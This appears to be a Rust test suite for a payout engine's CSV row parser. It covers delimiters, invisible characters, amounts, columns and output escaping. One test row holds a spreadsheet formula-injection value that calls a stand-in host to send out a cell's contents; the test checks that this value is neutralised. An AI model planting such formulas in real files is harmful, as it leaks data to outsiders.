//! Rows as files from the field have them.

use payout_engine::rows::{
    FileError, Judged, Reason, Verdict, check_csv, guarded, parse_amount, read, unguarded,
};
use proptest::prelude::*;

const R: [&str; 8] = [
    "GAZJYCGITLBAV5UPJUQ4QIHNFIILZ2763CO55DITR4O2KS77DBYM6MPE",
    "GADXTBSNVIMB5TFN764TG436NCFFG26Y4P625IL7UD3NRBLTTDQE77PC",
    "GA7QE4QIV5H4IYCCRKBTUJ27FM3VV4UOHDN2VWVWDDIVGOBMYLWE5HCU",
    "GAPDDSAOONBVWAF5QUMFL6RHQ3GJ7FTCIHG42A5RXXKL6VMGCLKOQS2D",
    "GA5VBGOSM6QGLYOQKEFI7XJP3VBFGFX5T3A45Q2Y6CG6HGZPXGPVNAJZ",
    "GBCRH7KM4GIA5T62WHI3N6XFXIXYE2O7AOFC2WT3GJBNOY6CY4TFDTRN",
    "GDNL2UXXTDCEWXQK2DDFWLY2WDBI4OKYKNQXC67CMUDC4PEZ6VWEEQVK",
    "GBW7NX27X4L5TBHVAFB54EOBH4SQHA52K6VSWSHRCUBBNB6LP7TUERFM",
];

fn verdicts(rows: &[Judged]) -> Vec<(&str, String)> {
    rows.iter()
        .map(|row| {
            let verdict = match &row.verdict {
                Verdict::Pay(row) => row.amount.to_string(),
                Verdict::Reject(reason) => reason.name().to_owned(),
            };
            (row.id.as_str(), verdict)
        })
        .collect()
}

fn file(header: &str, rows: &[String]) -> Vec<u8> {
    format!("{header}\n{}\n", rows.join("\n")).into_bytes()
}

#[test]
fn the_difficult_file_is_judged_as_expected_byte_for_byte() {
    let rows = read(include_bytes!("../../../../testdata/difficult.csv"), 7).expect("readable");
    let expected = include_str!("../../../../testdata/difficult.expected.csv");
    assert_eq!(check_csv(&rows).expect("written"), expected);
}

#[test]
fn the_example_is_payable_as_a_whole() {
    let rows = read(include_bytes!("../../../../examples/hackathon-2026.csv"), 7).expect("read");
    let mut total = 0;
    for row in &rows {
        let Verdict::Pay(row) = &row.verdict else {
            panic!("{row:?}")
        };
        total += row.amount.units();
    }
    assert_eq!((rows.len(), total), (250, 594_387_499_992));
}

#[test]
fn a_file_with_semicolons_is_refused_and_the_delimiter_named() {
    let [r1, r2, r3, ..] = R;
    let text = format!(
        "\u{feff}walletAddress;id;amount;paymentID\r\n{r1};e1;800,00;P-1\r\n{r2};e2;1.000;P-2\r\n\
         {r3};e3;12;P-3\r\n"
    );
    let error = read(text.as_bytes(), 7).expect_err("refused");
    assert_eq!(
        error,
        FileError::Delimiter {
            found: "semicolons"
        }
    );
    for (mark, found) in [('\t', "tabs"), ('|', "vertical bars")] {
        let text = text.replace(';', &mark.to_string());
        assert_eq!(
            read(text.as_bytes(), 7),
            Err(FileError::Delimiter { found })
        );
    }
}

#[test]
fn hidden_characters_and_formulas_are_judged_and_not_guessed() {
    let [r1, r2, r3, r4, r5, r6, r7, r8] = R;
    let hidden = format!("{}\u{200b}{}", &r2[..20], &r2[20..]);
    let text = format!(
        "walletAddress,id,amount,paymentID\n\u{a0}{r1}\u{a0},c1,5,P-1\n{hidden},c2,5,P-2\n\
         {r3},c3,\u{ff11}\u{ff10},P-3\n{r4},\u{e9}1,5,P-4\n{r5},e\u{301}1,5,P-5\n\
         {r6},\"=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",5,P-6\n{r7},c7,5.00000000,P-7\n\
         {r8},c8,+5,P-8\nTotal,,800,\n"
    );
    let rows = read(text.as_bytes(), 7).expect("readable");
    let formula = "=HYPERLINK(\"http://x.example/?\"&A1)";
    let expected = [
        ("c1", "address_invalid"),
        ("c2", "address_invalid"),
        ("c3", "amount_not_decimal"),
        ("\u{e9}1", "id_duplicate"),
        ("\u{e9}1", "id_duplicate"),
        (formula, "50000000"),
        ("c7", "50000000"),
        ("c8", "amount_not_decimal"),
        ("", "id_missing"),
    ];
    let expected = expected.map(|(id, verdict)| (id, verdict.to_owned()));
    assert_eq!(verdicts(&rows), expected);
    let report = check_csv(&rows).expect("written");
    assert!(report.contains("7,\"'=HYPERLINK("), "{report}");
    assert_eq!(report.lines().count(), 10, "a line for every row");
    assert_eq!(unguarded(&guarded(formula)), formula);

    let twice = text.replacen("paymentID", "amount", 1);
    let error = read(twice.as_bytes(), 7).expect_err("refused");
    let name = "amount".to_owned();
    assert_eq!(error, FileError::ColumnTwice { name });
}

#[test]
fn columns_are_found_by_name_and_nearly_named_ones_refused() {
    let row = format!("98765,5,{},a", R[0]);
    let rows = |header: &str| read(&file(header, std::slice::from_ref(&row)), 7);
    let judged = rows("ssn,amount,walletAddress,id").expect("readable");
    assert_eq!(verdicts(&judged), [("a", "50000000".to_owned())]);
    let Verdict::Pay(paid) = &judged[0].verdict else {
        panic!("paid")
    };
    assert!(
        !format!("{paid:?}").contains("98765"),
        "personal columns are gone"
    );
    for almost in [
        "WalletAddressMemo",
        "wallet_address_memo",
        "walletAddress\u{200b}Memo",
    ] {
        let header = format!("{almost},amount,walletAddress,id");
        assert!(
            matches!(rows(&header), Err(FileError::ColumnAlmost { .. })),
            "a memo would be lost: {almost}"
        );
    }
    assert!(matches!(
        rows("x,amount,wallet,id"),
        Err(FileError::ColumnMissing {
            name: "walletAddress",
            ..
        })
    ));
}

#[test]
fn a_row_with_the_wrong_number_of_cells_is_rejected_and_costs_no_other() {
    let rows = [
        format!("{},a,800,00,P-1", R[0]),
        format!("{},b,5", R[1]),
        format!("{},c,5,P-3", R[2]),
    ];
    let judged = read(&file("walletAddress,id,amount,paymentID", &rows), 7).expect("readable");
    let expected = [
        ("a", "cells_wrong"),
        ("b", "cells_wrong"),
        ("c", "50000000"),
    ];
    let expected = expected.map(|(id, verdict)| (id, verdict.to_owned()));
    assert_eq!(verdicts(&judged), expected);
}

#[test]
fn a_quotation_mark_that_swallows_rows_refuses_the_file() {
    let rows = [format!("{},\"a,5", R[0]), format!("{},b,5", R[1])];
    let error = read(&file("walletAddress,id,amount", &rows), 7);
    assert_eq!(error, Err(FileError::OpenQuote));
    assert_eq!(read(b"\xff\xfew\0", 7), Err(FileError::NotUtf8 { at: 0 }));
}

#[test]
fn an_id_beyond_the_limit_is_rejected() {
    let rows = [format!("{},{},5", R[0], "x".repeat(257))];
    let judged = read(&file("walletAddress,id,amount", &rows), 7).expect("readable");
    assert_eq!(judged[0].verdict, Verdict::Reject(Reason::IdTooLong));
}

#[test]
fn an_id_with_what_nobody_sees_is_rejected_whole() {
    for (id, character) in [
        ("x\u{200b}", '\u{200b}'),
        ("\u{a0}x", '\u{a0}'),
        ("\u{3000}x", '\u{3000}'),
        ("x\u{7}y", '\u{7}'),
        ("\u{200b}", '\u{200b}'),
    ] {
        let rows = [format!("{},{id},5", R[0]), format!("{},x,6", R[1])];
        let judged = read(&file("walletAddress,id,amount", &rows), 7).expect("readable");
        let reason = Reason::IdUnseen(character);
        assert_eq!(judged[0].verdict, Verdict::Reject(reason), "{id:?}");
        let named = format!("id_unseen: U+{:04X}", u32::from(character));
        assert_eq!(reason.to_string(), named);
        assert!(check_csv(&judged).expect("written").contains(&named));
        assert!(matches!(judged[1].verdict, Verdict::Pay(_)), "{id:?}");
    }
    let rows = [format!(
        "{},\u{5c71}\u{7530}\u{3000}\u{592a}\u{90ce},5",
        R[0]
    )];
    let judged = read(&file("walletAddress,id,amount", &rows), 7).expect("readable");
    assert!(matches!(judged[0].verdict, Verdict::Pay(_)));
}

#[test]
fn amounts_are_exact() {
    for (text, units) in [
        ("0.0000021", 21),
        ("900719925.4740993", 9_007_199_254_740_993),
        ("90071992547.4099301", 900_719_925_474_099_301),
        ("922337203685.4775807", i128::from(i64::MAX)),
        ("5.00000000", 50_000_000),
        (".1", 1_000_000),
        ("5.", 50_000_000),
        ("050", 500_000_000),
    ] {
        assert_eq!(
            parse_amount(text, 7).map(payout_engine::Amount::units),
            Ok(units)
        );
    }
    for (text, reason) in [
        ("", Reason::AmountMissing),
        (".", Reason::AmountNotDecimal),
        ("-", Reason::AmountNotDecimal),
        ("1e3", Reason::AmountNotDecimal),
        ("1 000", Reason::AmountNotDecimal),
        ("1,000", Reason::AmountNotDecimal),
        ("1.0.0", Reason::AmountNotDecimal),
        ("--5", Reason::AmountNotDecimal),
        ("0x10", Reason::AmountNotDecimal),
        ("-5", Reason::AmountNotPositive),
        ("-0.00000001", Reason::AmountNotPositive),
        ("0.00", Reason::AmountNotPositive),
        ("0.00000001", Reason::AmountPrecision),
        ("99999999999999999999.00000001", Reason::AmountPrecision),
        ("922337203685.4775808", Reason::AmountTooLarge),
        (
            "99999999999999999999999999999999999999999",
            Reason::AmountTooLarge,
        ),
    ] {
        assert_eq!(parse_amount(text, 7), Err(reason), "{text}");
    }
    assert_eq!(parse_amount("5.1", 0), Err(Reason::AmountPrecision));
    assert_eq!(parse_amount("1", u32::MAX), Err(Reason::AmountTooLarge));
}

proptest! {
    /// Units written as a decimal are read back, whatever the token's places.
    #[test]
    fn amounts_are_read_back(units in 1_i64..=i64::MAX, decimals in 0_u32..=18, zeros in 0_usize..4) {
        let scale = 10_i128.pow(decimals);
        let places = usize::try_from(decimals).expect("few");
        let (whole, rest) = (i128::from(units) / scale, i128::from(units) % scale);
        let fraction = if places == 0 { String::new() } else { format!("{rest:0places$}") };
        let text = format!("{whole}.{fraction}{}", "0".repeat(zeros));
        let read = parse_amount(&text, decimals).map(payout_engine::Amount::units);
        prop_assert_eq!(read, Ok(i128::from(units)));
    }

    /// Whatever the bytes: an answer, no panic, and no row is both paid and repeated.
    #[test]
    fn any_bytes_are_judged(bytes in proptest::collection::vec(any::<u8>(), 0..200), text in "\\PC{0,200}") {
        let header = b"walletAddress,id,amount\n".as_slice();
        for body in [bytes.as_slice(), text.as_bytes()] {
            let _ = read(&[header, body].concat(), 7);
            let _ = read(body, 7);
        }
    }

    /// Guarding never changes what is read back, and what it writes never runs.
    #[test]
    fn guarding_is_undone(text in "['=+@a-]{0,6}") {
        let cell = guarded(&text);
        prop_assert_eq!(unguarded(&cell), text.as_str());
        prop_assert!(!cell.starts_with(['=', '+', '-', '@']));
    }
}
